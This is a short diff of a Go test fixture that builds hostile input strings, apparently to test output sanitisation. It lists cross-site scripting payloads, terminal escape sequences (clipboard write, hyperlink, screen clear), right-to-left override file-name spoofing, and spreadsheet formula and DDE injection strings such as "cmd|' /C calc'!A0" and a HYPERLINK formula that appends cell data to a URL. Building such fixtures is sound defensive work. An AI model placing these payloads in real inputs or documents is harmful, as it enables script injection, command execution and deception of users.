@@ -26,7 +26,8 @@ func hostiles(seed uint64) []hostile {
 	texts := []struct{ title, channel, tag string }{
 		{`<script>alert("Ravenwood")</script> live`, `<img src=x onerror=alert(1)>`, `"><svg/onload=alert(2)>`},
 		{"\x1b[31mred\x1b[0m and \x1b[2J\x1b[H gone", "\x1b[1mbold channel\x1b[0m", "\x1b[5mblink"},
-		{"\x1b]0;new window title\x07\x1b]8;;https://example.com/\x1b\\click\x1b]8;;\x1b\\", "\u009b31mC1 channel", "\x1b]52;c;cm0=\x07"},
+		{"\x1b]0;new window title\x07\x1b]8;;https://example.com/\x1b\\click\x1b]8;;\x1b\\", "\u009b31mC1 channel",
+			"\x1b]52;c;cm0=\x07"},
 		{"Holiday photos \u202Egnp.exe", "\u2066isolated\u2069 \u202Eknab", "\u200fmark\u200e"},
 		{`=HYPERLINK("https://example.com/?"&A1,"prize")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1"},
 		{"-2+3+cmd|' /C calc'!A0", "\tTab first", "=1+1"},
